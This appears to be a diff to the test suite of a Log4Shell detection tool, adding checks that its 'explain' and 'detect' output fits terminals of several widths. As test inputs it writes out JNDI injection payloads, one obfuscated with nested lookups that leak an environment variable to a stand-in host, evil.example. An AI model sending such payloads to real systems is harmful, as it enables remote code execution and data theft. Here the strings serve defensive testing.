@@ -229,8 +229,9 @@ class Terminals(Case):
     def test_columns_and_colour(self):
         log = self.write("a.log", "".join(attack(n, "a-rather-long-name-%d.of-a-host.evil.example" % n) for n in range(30)))
         env = dict(self.env, TERM="xterm-256color")
-        for columns in (80, 200):
-            for args in (["detect", log], ["detect", "-v", log], ["up", "--sample"]):
+        names = self.write("names", "evil.example\n")
+        for columns in (40, 63, 64, 80, 200):
+            for args in (["detect", log], ["detect", "-v", log], ["up", "--sample"], ["detect", "--callbacks", names, log]):
                 shown, status = cli_case.on_terminal(args, columns, env)
                 self.assertEqual(status, 1)
                 self.assertIn("\x1b[", shown)
@@ -242,6 +243,23 @@ class Terminals(Case):
             self.assertNotIn("\x1b[3", shown)
         done = self.run_cli("detect", "-v", log, status=1, env=env)
         self.assertNotIn(b"\x1b", done.stdout + done.stderr)
+
+    def test_an_explanation_fits_any_terminal(self):
+        text = "%24%7B" + "${lower:" * 20 + "j" + "}" * 20 + "ndi:${lower:l}dap://h.${env:HOST:-x}.a-rather-long-name.of-a-host.evil.example:1389/a b \u00e9\x01c%7D"
+        env = dict(self.env, TERM="xterm-256color", LC_ALL="C.UTF-8")
+        whole = self.run_cli("explain", text, status=1, env=env).stdout.decode()
+        for columns in (40, 71, 72, 80, 200):
+            shown, status = cli_case.on_terminal(["explain", text], columns, env)
+            rows = shown.replace("\r\n", "\n").splitlines()
+            self.assertEqual(status, 1)
+            self.assertEqual([r for r in rows if len(r) > columns], [], columns)
+            self.assertEqual([r for r in rows if re.search(r"\\x?[0-9a-f]?$|\[[.:]?$", r)], [], columns)  # no escape is cut in two
+            got, want = ("".join(part.split("\nLog4j ")[0].split()) for part in ("\n".join(rows), whole))
+            self.assertEqual(got, want)
+            self.assertTrue(any(re.match(r"2\.13\.0 +%s" % ("fires +fires +fires" if columns < 72 else "would fire +would fire +would fire"), r) for r in rows), columns)
+        self.assertGreater(max(len(r) for r in whole.splitlines()), 200)
+        shown, _ = cli_case.on_terminal(["explain", "--json", text], 40, env)
+        self.assertEqual(len(shown.splitlines()), 1)
 
     def test_an_attack_is_seen_on_any_terminal(self):
         log = self.write("a.log", line(1, "${jndi:ldap://evil.example:1389/a}").replace("192.0.2.1", "2001:db8:1111:2222:3333:4444:5555:6666"))
